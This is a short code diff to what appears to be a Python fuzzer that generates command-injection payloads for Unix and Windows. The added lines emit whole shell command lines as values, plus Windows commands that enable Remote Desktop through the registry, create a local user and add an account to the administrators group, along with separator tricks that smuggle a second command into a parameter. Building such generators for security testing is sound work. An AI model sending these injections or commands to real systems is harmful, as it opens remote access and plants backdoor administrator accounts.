@@ -18,6 +18,9 @@ def rce_unix(r):
         # Commands run by full path, as payload lists write them to dodge PATH filtering.
         c = pick(r, ["/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/"]) + c
     pre = pick(r, ["", "1", "127.0.0.1", "x", "foo.txt", "a'", "a)", "\"", "'"])
+    if r.random() < 0.08 and " " in c:
+        # A whole command line as the value, for parameters passed to a shell as they are.
+        return c
     if r.random() < 0.1:
         # A written-out newline ("\\n"), for back ends that unescape it before a shell or an eval sees it.
         return pick(r, [f"\\n{c}\\n", f"{pre}\\n{c}", f"\\n{c}|", f"{pre}\\n{c};"])
@@ -28,6 +31,9 @@ def rce_unix(r):
 def rce_windows(r):
     c = pick(r, WIN_CMDS)
     pre = pick(r, ["", "1", "127.0.0.1", "x"])
+    if r.random() < 0.1:
+        return pick(r, [c, "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
+                        f"net user {rstr(r)} {rstr(r)} /add", "net localgroup administrators x /add", "wmic process call create calc.exe"])
     return pick(r, [f"{pre}&{c}", f"{pre} & {c}", f"{pre}|{c}", f"{pre}&&{c}", f"{pre}||{c}", f"{pre}\r\n{c}", f"\"&{c}&\""])
 
 
